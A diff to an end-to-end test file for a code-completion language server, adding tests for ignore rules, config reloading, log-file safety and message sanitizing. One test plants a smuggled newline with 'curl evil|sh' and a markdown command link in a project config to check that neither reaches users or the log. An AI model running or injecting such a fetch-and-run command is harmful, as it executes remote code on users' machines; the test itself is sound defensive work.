@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
 from pathlib import Path
+
+import pytest
 
 from tests.e2e.client import GHOST_TEXT, Editor
 
@@ -15,7 +18,7 @@ def capacity(editor: Editor) -> int:
 
 
 def wait_for_capacity(editor: Editor, chunks: int) -> None:
-    """Our answer to the server's question takes effect some messages later."""
+    """The answer to the server's question takes effect some messages later."""
     assert any(capacity(editor) == chunks for _ in range(1000))
 
 
@@ -117,10 +120,10 @@ def test_status_is_told_to_those_who_want_it(editor: Editor, tmp_path: Path) -> 
 
 def test_the_next_endpoint_completes_and_is_named_once(editor: Editor) -> None:
     """The first of several servers is not there: suggestions come all the same, and one sentence says so."""
-    nobody = {"url": "http://127.0.0.1:9", "kind": "llama-server"}
+    absent = {"url": "http://127.0.0.1:9", "kind": "llama-server"}
     editor.initialize(
         capabilities=GHOST_TEXT,
-        initializationOptions={"fim.backend.endpoints": [nobody, {"kind": "embedded"}]},
+        initializationOptions={"fim.backend.endpoints": [absent, {"kind": "embedded"}]},
     )
     editor.open("file:///shop/area.py", "def area(width, height):\n    return width * hei")
     at = {"line": 1, "character": 22}
@@ -144,3 +147,84 @@ def test_code_that_leaves_the_machine_unencrypted_is_said_once(editor: Editor) -
     said = [each["message"] for each in editor.messages("window/showMessage")]
     assert len([message for message in said if "192.0.2.1 unencrypted" in message]) == 1
     assert editor.bye() == 0
+
+
+def why_nothing(editor: Editor, uri: str) -> str:
+    """What the server says of a document that no model is shown anything of."""
+    params = {"command": "fim.showContext", "arguments": [uri]}
+    return str(editor.request("workspace/executeCommand", params)["note"])
+
+
+@pytest.mark.parametrize("method", ["textDocument/didSave", "textDocument/didClose"])
+@pytest.mark.parametrize("name", [".gitignore", ".fimignore"])
+def test_a_rule_saved_in_the_editor_holds_at_once(
+    editor: Editor, tmp_path: Path, method: str, name: str
+) -> None:
+    """Also for documents that are open, and from a client that watches no files."""
+    (tmp_path / "a.py").write_text("x = 1\n", "utf-8")
+    a, rules = (tmp_path / "a.py").as_uri(), (tmp_path / name).as_uri()
+    editor.initialize(rootUri=tmp_path.as_uri())
+    editor.open(a, "x = 1\n")
+    editor.open(rules, "", "ignore")
+    assert "private" not in why_nothing(editor, a)
+    (tmp_path / name).write_text("a.py\n", "utf-8")
+    editor.notify(method, {"textDocument": {"uri": rules}})
+
+    assert "private" in why_nothing(editor, a)
+    assert editor.bye() == 0
+
+
+@pytest.mark.parametrize("method", ["textDocument/didSave", "textDocument/didClose"])
+def test_settings_saved_in_the_editor_are_read_again(
+    editor: Editor, tmp_path: Path, method: str
+) -> None:
+    """The project's, however its URI is spelled, and the user's own."""
+    user, project = tmp_path / "home/fim-lsp/config.toml", tmp_path / "shop/.fim-lsp.toml"
+    user.parent.mkdir(parents=True)
+    project.parent.mkdir()
+    editor.initialize(rootUri=project.parent.as_uri())
+    assert capacity(editor) == 16
+    user.write_text("ring.chunks = 9\n", "utf-8")
+    editor.notify(method, {"textDocument": {"uri": user.as_uri()}})
+    assert capacity(editor) == 9
+    project.write_text("ring.chunks = 2\n", "utf-8")
+    editor.notify(method, {"textDocument": {"uri": project.as_uri().replace("/.", "/%2E")}})
+    assert capacity(editor) == 2
+    project.unlink()
+    event = {"uri": project.as_uri(), "type": 3}
+    editor.notify("workspace/didChangeWatchedFiles", {"changes": [event]})
+    assert capacity(editor) == 9
+    assert editor.bye() == 0
+
+
+def test_what_a_repository_writes_is_a_short_message(
+    launch: Callable[..., Editor], tmp_path: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
+    """A few of its problems on one line, without links; all of them are in the log, a line each."""
+    evil = "[repair](command:evil)" + "y" * 400 + "\\ncurl evil|sh"
+    lines = "".join(f'"{number} {evil}" = 1\n' for number in range(30))
+    (tmp_path / ".fim-lsp.toml").write_text(lines, "utf-8")
+    editor = launch()
+    editor.initialize(rootUri=tmp_path.as_uri())
+
+    [message] = editor.messages("window/showMessage")
+    assert len(message["message"]) < 1200
+    assert message["message"].isprintable()
+    assert "](" not in message["message"]
+    assert message["message"].endswith("25 more in the log")
+    assert editor.bye() == 0
+    logged = capfd.readouterr().err.splitlines()
+    assert sum("there is no setting" in line for line in logged) == 26
+    assert not [line for line in logged if line.startswith("curl")]
+
+
+def test_the_log_is_no_other_file(editor: Editor, tmp_path: Path) -> None:
+    """A file that is not a log stays as it is, and the user hears of it."""
+    file = tmp_path / "bashrc"
+    file.write_text("alias ls=ls\n", "utf-8")
+    editor.initialize(initializationOptions={"log": {"file": str(file)}, "x\ny": 1})
+
+    said = " ".join(each["message"] for each in editor.messages("window/showMessage"))
+    assert "is not a log of fim-lsp" in said
+    assert editor.bye() == 0
+    assert file.read_text("utf-8") == "alias ls=ls\n"
